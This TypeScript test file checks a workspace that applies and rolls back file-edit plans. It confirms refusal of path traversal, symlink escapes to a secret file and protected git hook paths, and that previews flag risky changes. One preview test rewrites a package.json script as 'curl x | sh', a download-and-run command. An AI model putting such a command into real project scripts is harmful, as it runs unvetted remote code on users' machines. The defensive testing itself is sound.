import { execFileSync } from "node:child_process";
import { once } from "node:events";
import {
  chmod,
  link,
  mkdir,
  mkdtemp,
  readFile,
  rm,
  stat,
  symlink,
  unlink,
  writeFile,
} from "node:fs/promises";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { sha256Hex } from "@ccl/core";
import { afterEach, beforeEach, describe, expect, it } from "vitest";

import { readTree } from "../../test-support/read-tree.ts";
import { editOf, planOf } from "../../test-support/simulated-workspace.ts";
import type { ValidAction, ValidPlan } from "../validate/valid-plan.ts";
import type { FileWorkspace } from "../workspace/file-workspace.ts";
import type { ApplyOptions } from "../workspace/plan-workspace.ts";
import { openWorkspace } from "./open-workspace.ts";

let outside = "";
let root = "";
let workspace: FileWorkspace;
beforeEach(async () => {
  outside = await mkdtemp(join(tmpdir(), "ccl-workspace-"));
  root = join(outside, "root");
  await mkdir(join(root, "src"), { recursive: true });
  await writeFile(join(root, "src/a.ts"), "one\ntwo\nthree\n");
  await writeFile(join(outside, "secret.txt"), "secret");
  workspace = await openWorkspace({ root });
});
afterEach(async () => {
  await workspace.close();
  await rm(outside, { recursive: true, force: true });
});

const BASE = "one\ntwo\nthree\n";
const EDIT = editOf("src/a.ts", BASE, ["two", "2"]);
const create = (path: string): ValidAction => ({ kind: "CREATE_FILE", path, content: "new\n" });

async function codesOf(plan: ValidPlan, options: ApplyOptions = {}): Promise<string[]> {
  const applied = await workspace.apply(plan, options);
  return applied.ok ? [] : applied.issues.map(({ code }) => code);
}

async function confirmed(plan: ValidPlan): Promise<string[]> {
  const preview = await workspace.preview(plan);
  return preview.ok
    ? codesOf(plan, { confirm: preview.value.planHash })
    : preview.issues.map(({ code }) => code);
}

describe("what a plan meets on the disk", () => {
  it.each<[string, ValidAction[], string[]]>([
    ["a file that is there already", [create("src/a.ts")], ["ERR_TARGET_EXISTS"]],
    [
      "a folder that is there already",
      [{ kind: "CREATE_DIR", path: "src" }],
      ["ERR_TARGET_EXISTS"],
    ],
    ["a file where a folder is needed", [create("src/a.ts/b.ts")], ["ERR_TARGET_EXISTS"]],
    ["no file to edit", [editOf("src/b.ts", "x", ["x", "y"])], ["PATH_NOT_FOUND"]],
    ["a folder to edit", [editOf("src", "x", ["x", "y"])], ["PATH_NOT_FOUND"]],
    ["no file to delete", [{ kind: "DELETE_FILE", path: "gone.ts" }], ["PATH_NOT_FOUND"]],
    ["no folder to delete", [{ kind: "DELETE_DIR", path: "gone" }], ["PATH_NOT_FOUND"]],
    ["a folder that is not empty", [{ kind: "DELETE_DIR", path: "src" }], ["ERR_NOT_EMPTY"]],
    ["another base", [editOf("src/a.ts", "other\n", ["other", "x"])], ["ERR_BASE_MISMATCH"]],
    ["a protected name", [create(".git/hooks/pre-commit")], ["PROTECTED_PATH"]],
    ["a path out of the root", [create("../x.ts")], ["ERR_INVALID_PATH"]],
    [
      "two actions on one path",
      [create("x.ts"), { kind: "CREATE_DIR", path: "x.ts" }],
      ["ERR_ACTION_CONFLICT"],
    ],
    [
      "several things at once",
      [create("src/a.ts"), { kind: "DELETE_FILE", path: "gone.ts" }],
      ["ERR_TARGET_EXISTS", "PATH_NOT_FOUND"],
    ],
  ])("%s refuses all of it", async (_name, actions, codes) => {
    const before = await readTree(root);
    expect(await codesOf(planOf(...actions, create("zzz/other.ts")))).toEqual(codes);
    expect(await readTree(root)).toEqual(before);
  });

  it.each<[string, string, string]>([
    ["a link to a file outside", "link.txt", "../secret.txt"],
    ["a link to nothing", "link.txt", "nowhere"],
    ["a link to itself", "link.txt", "link.txt"],
    ["a link to a file inside", "link.txt", "src/a.ts"],
    ["a link to the root's parent", "link", ".."],
    ["a link on the way", "way", "."],
  ])("%s is followed neither to read nor to write nor to delete", async (_name, name, target) => {
    await symlink(target, join(root, name));
    const path = name === "link.txt" ? name : `${name}/secret.txt`;
    const before = await readTree(outside);
    const actions: ValidAction[] = [
      create(path),
      editOf(path, "secret", ["secret", "x"]),
      { kind: "DELETE_FILE", path },
    ];
    for (const action of actions)
      expect(await confirmed(planOf(action))).toEqual(["ERR_INVALID_PATH"]);
    const { blocks, issues } = await workspace.read([{ type: "read_file", path }]);
    expect(issues.map(({ code }) => code)).toEqual(["ERR_INVALID_PATH"]);
    expect(blocks[0]?.text).not.toMatch(/^secret|one\n/);
    expect((await workspace.read([{ type: "search", query: "secret" }])).blocks[0]?.text).toMatch(
      /^No hits/,
    );
    expect(await readTree(outside)).toEqual(before);
  });

  it("a pipe, a socket and a device are no files, and nothing waits for them", async () => {
    execFileSync("mkfifo", [join(root, "pipe.txt")]);
    const server = createServer().listen(join(root, "socket.txt"));
    await once(server, "listening");
    for (const path of ["pipe.txt", "socket.txt"]) {
      expect(await confirmed(planOf({ kind: "DELETE_FILE", path }))).toEqual(["ERR_INVALID_PATH"]);
      const { issues } = await workspace.read([{ type: "read_file", path }]);
      expect(issues.map(({ code }) => code)).toEqual(["ERR_INVALID_PATH"]);
    }
    server.close();
    const devices = await openWorkspace({ root: "/dev" });
    const found = await devices.read([{ type: "read_file", path: "null" }]);
    expect(found.issues.map(({ code }) => code)).toEqual(["ERR_INVALID_PATH"]);
    await devices.close();
  });

  it("a second name of a file keeps the old content, and comes together with the first again", async () => {
    await link(join(root, "src/a.ts"), join(root, "src/b.ts"));
    const applied = await workspace.apply(planOf(EDIT));
    expect(await readFile(join(root, "src/b.ts"), "utf8")).toBe(BASE);
    expect(await readFile(join(root, "src/a.ts"), "utf8")).toContain("2");
    if (applied.ok) await workspace.rollback(applied.value.transactionId);
    expect((await stat(join(root, "src/a.ts"))).ino).toBe((await stat(join(root, "src/b.ts"))).ino);
  });

  it("modes stay, but for the bits that would give the new text another's rights", async () => {
    for (const [mode, expected] of [
      [0o755, 0o755],
      [0o444, 0o444],
      [0o4755, 0o755],
    ] as const) {
      await writeFile(join(root, "run.sh"), "#!/bin/sh\n");
      await chmod(join(root, "run.sh"), mode);
      const applied = await workspace.apply(
        planOf(editOf("run.sh", "#!/bin/sh\n", ["sh", "bash"])),
      );
      expect((await stat(join(root, "run.sh"))).mode & 0o7777).toBe(expected);
      if (applied.ok) await workspace.rollback(applied.value.transactionId);
      expect((await stat(join(root, "run.sh"))).mode & 0o7777).toBe(mode);
      await unlink(join(root, "run.sh"));
    }
  });

  it("carriage returns and a byte order mark stay as they are around a patch", async () => {
    const text = "\ufeffone\r\ntwo\r\n";
    await writeFile(join(root, "dos.txt"), text);
    await workspace.read([{ type: "read_file", path: "dos.txt" }]);
    const edits = workspace.propose(
      "--- a/dos.txt\n+++ b/dos.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+2\n",
    );
    expect(await codesOf(edits.ok ? edits.value.plan : planOf())).toEqual([]);
    expect(await readFile(join(root, "dos.txt"), "utf8")).toBe("\ufeffone\r\n2\r\n");
  });

  it("a file that is no text is neither read nor patched, but may be deleted", async () => {
    const bytes = Uint8Array.of(0xff, 0xfe, 0x00, 0x01);
    await writeFile(join(root, "image.bin"), bytes);
    const { issues } = await workspace.read([{ type: "read_file", path: "image.bin" }]);
    expect(issues.map(({ code }) => code)).toEqual(["ERR_NON_UTF8_FILE"]);
    const edit: ValidAction = {
      kind: "EDIT_FILE",
      path: "image.bin",
      base_sha256: sha256Hex(bytes),
      content: "b",
    };
    expect(await codesOf(planOf(edit))).toEqual(["ERR_NON_UTF8_FILE"]);
    expect(await confirmed(planOf({ kind: "DELETE_FILE", path: "image.bin" }))).toEqual([]);
  });
});

describe("an edit of a file that could not be read", () => {
  it("is answered with the reason, until it can be read", async () => {
    await writeFile(join(root, "latin.txt"), Uint8Array.of(0x63, 0x61, 0xe9, 0x0a));
    const proposed = (path: string): unknown => {
      const file = `*** Begin Patch\n*** Update File: ${path}\n@@\n-two\n+2\n*** End Patch\n`;
      const edits = workspace.propose(file);
      return edits.ok ? "placed" : edits.issues[0]?.message;
    };
    expect(proposed("none.txt")).toContain("Request it with read_file");
    await workspace.read(
      ["none.txt", "latin.txt"].map((path) => ({ type: "read_file" as const, path })),
    );
    expect(proposed("none.txt")).toBe('There is no file "none.txt".');
    expect(proposed("latin.txt")).toContain("not UTF-8 text");
    await writeFile(join(root, "none.txt"), "one\ntwo\n");
    await workspace.read([{ type: "read_file", path: "none.txt" }]);
    expect(proposed("none.txt")).toBe("placed");
  });
});

describe("confirmation", () => {
  it("is needed for what is deleted, and holds for this plan on these files alone", async () => {
    const plan = planOf({ kind: "DELETE_FILE", path: "src/a.ts" });
    expect(await codesOf(plan)).toEqual(["CONFIRM_REQUIRED"]);
    expect(await codesOf(plan, { confirm: "0".repeat(64) })).toEqual(["CONFIRM_REQUIRED"]);
    const preview = await workspace.preview(plan);
    const planHash = preview.ok ? preview.value.planHash : "";
    await writeFile(join(root, "src/a.ts"), "changed since\n");
    expect(await codesOf(plan, { confirm: planHash })).toEqual(["CONFIRM_REQUIRED"]);
    await writeFile(join(root, "src/a.ts"), BASE);
    expect(await codesOf(plan, { confirm: planHash })).toEqual([]);
  });
});

describe("a preview", () => {
  it("shows unified diffs and what a person should look at", async () => {
    await writeFile(join(root, "package.json"), '{"scripts":{"test":"vitest"}}\n');
    const preview = await workspace.preview(
      planOf(
        create(".github/workflows/ci.yml"),
        create(".husky/pre-commit"),
        create("run.sh"),
        EDIT,
        editOf("package.json", '{"scripts":{"test":"vitest"}}\n', ["vitest", "curl x | sh"]),
      ),
    );
    if (!preview.ok) throw new Error(JSON.stringify(preview.issues));
    const { changes, needsConfirmation } = preview.value;
    expect(needsConfirmation).toBe(false);
    expect(changes.map(({ path, risks }) => [path, risks.map(({ kind }) => kind).join()])).toEqual([
      [".github/workflows/ci.yml", "ci_workflow"],
      [".husky/pre-commit", "git_hook"],
      ["run.sh", "executable"],
      ["package.json", "package_script"],
      ["src/a.ts", ""],
    ]);
    expect(changes.at(-1)?.diff).toMatchInlineSnapshot(`
      "--- a/src/a.ts
      +++ b/src/a.ts
      @@ -1,3 +1,3 @@
       one
      -two
      +2
       three
      "
    `);
    expect(changes[2]?.diff).toBe("--- /dev/null\n+++ b/run.sh\n@@ -0,0 +1,1 @@\n+new\n");
  });
});

describe("edits of others", () => {
  it.each<[string, () => Promise<void>, string[]]>([
    ["a changed file", () => writeFile(join(root, "src/a.ts"), "theirs\n"), ["CONCURRENT_EDIT"]],
    ["a deleted file", () => unlink(join(root, "src/a.ts")), ["CONCURRENT_EDIT"]],
    ["a changed mode", () => chmod(join(root, "src/a.ts"), 0o700), ["CONCURRENT_EDIT"]],
    [
      "a file in a folder that was made",
      () => writeFile(join(root, "lib/theirs.ts"), ""),
      ["ERR_NOT_EMPTY"],
    ],
  ])("%s makes a rollback refuse and touch nothing", async (_name, edit, codes) => {
    const applied = await workspace.apply(planOf(EDIT, create("lib/new.ts")));
    await edit();
    const before = await readTree(root);
    const undone = await workspace.rollback(applied.ok ? applied.value.transactionId : "");
    expect(undone.ok ? [] : undone.issues.map(({ code }) => code)).toEqual(codes);
    expect(await readTree(root)).toEqual(before);
    expect((await workspace.transactions()).map(({ status }) => status)).toEqual(["committed"]);
  });

  it("while a check runs are kept in the journal when the check fails, as what checks write is", async () => {
    const script = "grep -q two src/a.ts || { echo theirs > src/a.ts; exit 1; }";
    const plan = planOf(EDIT, create("lib/new.ts"));
    const codes = await codesOf(plan, {
      checks: [{ name: "edits", command: ["sh", "-c", script] }],
    });
    expect(codes).toEqual(["AUTO_CHECK_FAILED_ROLLED_BACK", "AUTO_CHECK_FAILED_ROLLED_BACK"]);
    expect(await readFile(join(root, "src/a.ts"), "utf8")).toBe(BASE);
    expect(Object.keys(await readTree(root))).toEqual(["src", "src/a.ts"]);
    const [record] = await workspace.transactions();
    expect(record).toMatchObject({ status: "rolled_back", writtenPaths: ["src/a.ts"] });
    expect(await workspace.recover()).toEqual([]);
    const journal = join(root, ".ccl/transactions", record?.transactionId ?? "", "written");
    expect(Object.values(await readTree(journal)).join()).toContain(
      Buffer.from("theirs\n").toString("base64"),
    );
    expect(await codesOf(planOf(create("next.ts")))).toEqual([]);
  });
});

describe("a workspace", () => {
  it.each([
    ["", "invalid_input"],
    ["a\0b", "invalid_input"],
    ["/nowhere/at/all", "workspace_unusable"],
    ["/etc/hostname", "workspace_unusable"],
  ])("can't be opened at %j", async (bad, code) => {
    await expect(openWorkspace({ root: bad })).rejects.toMatchObject({ code });
  });

  it("keeps no journals behind a link", async () => {
    await symlink(outside, join(root, ".ccl"));
    await expect(workspace.apply(planOf(EDIT))).rejects.toMatchObject({ code: "journal_unusable" });
    expect(Object.keys(await readTree(outside))).toEqual([
      "root",
      "root/src",
      "root/src/a.ts",
      "secret.txt",
    ]);
  });

  it("ends with close, and ends calls whose signal was aborted", async () => {
    const signal = AbortSignal.abort();
    await expect(workspace.apply(planOf(EDIT), { signal })).rejects.toMatchObject({
      code: "aborted",
    });
    await expect(workspace.read([], { signal })).resolves.toEqual({ blocks: [], issues: [] });
    await workspace.close();
    await expect(workspace.apply(planOf(EDIT))).rejects.toMatchObject({ code: "workspace_closed" });
    await expect(workspace.transactions()).rejects.toMatchObject({ code: "workspace_closed" });
  });

  it("knows no transaction of another name", async () => {
    for (const id of ["", "..", "../x", "01", "lock"]) {
      const undone = await workspace.rollback(id);
      expect(undone).toMatchObject({ ok: false, issues: [{ code: "PATH_NOT_FOUND" }] });
    }
  });

  it("says that a journal is damaged instead of guessing", async () => {
    const applied = await workspace.apply(planOf(EDIT));
    const id = applied.ok ? applied.value.transactionId : "";
    await writeFile(join(root, ".ccl/transactions", id, "intent.json"), "{}");
    await expect(workspace.rollback(id)).rejects.toMatchObject({ code: "journal_damaged" });
  });
});
